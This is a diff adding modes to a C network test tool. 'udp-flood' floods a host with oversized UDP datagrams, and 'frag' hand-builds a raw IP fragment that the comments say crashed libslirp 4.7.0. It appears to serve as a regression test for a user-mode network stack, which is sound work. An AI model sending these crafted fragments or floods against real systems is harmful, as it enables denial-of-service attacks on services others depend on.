@@ -286,6 +286,95 @@ static int dns_query(const char *server, int port, const char *name)
 	return 0;
 }
 
+/* One UDP datagram of size bytes; prints "reply N" with the size of the answer, or "no reply". */
+static int udp_size(const char *host, int port, size_t size)
+{
+	static char buf[65536];
+	int s = connect_to(SOCK_DGRAM, host, port);
+	struct timeval tv = { 2, 0 };
+
+	if (size > sizeof(buf))
+		size = sizeof(buf);
+	memset(buf, 'u', size);
+	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
+	if (send(s, buf, size, 0) < 0)
+		die("send");
+	ssize_t n = recv(s, buf, sizeof(buf), 0);
+	if (n < 0)
+		printf("no reply\n");
+	else
+		printf("reply %zd\n", n);
+	return 0;
+}
+
+/* count datagrams of size bytes as fast as the socket takes them (the attack on libslirp's
+ * reassembly: above MTU - 28 each leaves as IP fragments). Prints "sent N". */
+static int udp_flood(const char *host, int port, size_t size, int count)
+{
+	static char buf[65536];
+	int s = connect_to(SOCK_DGRAM, host, port), sent = 0;
+
+	if (size > sizeof(buf))
+		size = sizeof(buf);
+	memset(buf, 'f', size);
+	for (int i = 0; i < count; i++) {
+		if (send(s, buf, size, 0) >= 0)
+			sent++;
+		else if (errno != ENOBUFS && errno != ECONNREFUSED && errno != EAGAIN)
+			die("send");
+	}
+	printf("sent %d\n", sent);
+	return 0;
+}
+
+/* One hand-made IP fragment to dst over a raw socket (needs CAP_NET_RAW): for IPv4 the UDP last
+ * fragment that crashed libslirp 4.7.0 (id 2, offset 1384, MF clear, arriving with no first
+ * fragment); for IPv6 the same behind a fragment header. Prints "sent". */
+static int frag(const char *dst)
+{
+	unsigned char p[64];
+	struct sockaddr_storage ss;
+	socklen_t len = addr_of(dst, 0, &ss);
+	int one = 1, s;
+
+	memset(p, 'x', sizeof(p));
+	if (ss.ss_family == AF_INET) {
+		s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
+		if (s < 0)
+			die("socket");
+		if (setsockopt(s, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one)) < 0)
+			die("IP_HDRINCL");
+		p[0] = 0x45;
+		p[1] = 0;
+		p[2] = 0;
+		p[3] = sizeof(p);
+		p[4] = 0;
+		p[5] = 2;               /* id 2 */
+		p[6] = 0;               /* MF clear */
+		p[7] = 1384 / 8;        /* offset 1384 */
+		p[8] = 64;
+		p[9] = IPPROTO_UDP;
+		p[10] = p[11] = 0;      /* the kernel fills the checksum */
+		inet_pton(AF_INET, "10.0.2.100", p + 12);
+		memcpy(p + 16, &((struct sockaddr_in *)&ss)->sin_addr, 4);
+	} else {
+		/* The kernel writes the IPv6 header with next header 44; the payload is the
+		 * fragment header (UDP, offset 1384, M clear, id 2) and the fragment's bytes. */
+		s = socket(AF_INET6, SOCK_RAW, IPPROTO_FRAGMENT);
+		if (s < 0)
+			die("socket");
+		memset(p, 0, 8);
+		p[0] = IPPROTO_UDP;
+		p[2] = (unsigned char)((1384 >> 8) & 0xff);
+		p[3] = (unsigned char)(1384 & 0xf8);
+		p[7] = 2;
+	}
+	if (sendto(s, p, sizeof(p), 0, (struct sockaddr *)&ss, len) < 0)
+		die("sendto");
+	printf("sent\n");
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	const char *m = argc > 1 ? argv[1] : "";
@@ -335,9 +424,16 @@ int main(int argc, char **argv)
 		return icmp_ping(argv[2]);
 	if (!strcmp(m, "dns-query") && argc == 5)
 		return dns_query(argv[2], atoi(argv[3]), argv[4]);
+	if (!strcmp(m, "udp-size") && argc == 5)
+		return udp_size(argv[2], atoi(argv[3]), strtoul(argv[4], NULL, 10));
+	if (!strcmp(m, "udp-flood") && argc == 6)
+		return udp_flood(argv[2], atoi(argv[3]), strtoul(argv[4], NULL, 10), atoi(argv[5]));
+	if (!strcmp(m, "frag") && argc == 3)
+		return frag(argv[2]);
 	fprintf(stderr, "usage: nettool tcp-echo|udp-echo PORT [ADDR] | tcp-ask|udp-ask HOST PORT MSG |\n"
 			"  icmp-ping HOST | tcp-many HOST PORT N | send HOST PORT BYTES | recv HOST PORT |\n"
 			"  serve-sink PORT [ADDR] |\n"
-			"  serve-source PORT BYTES [ADDR] | dns-server PORT ADDR IP | dns-query SERVER PORT NAME\n");
+			"  serve-source PORT BYTES [ADDR] | dns-server PORT ADDR IP | dns-query SERVER PORT NAME |\n"
+			"  udp-size HOST PORT SIZE | udp-flood HOST PORT SIZE COUNT | frag DST\n");
 	return 2;
 }
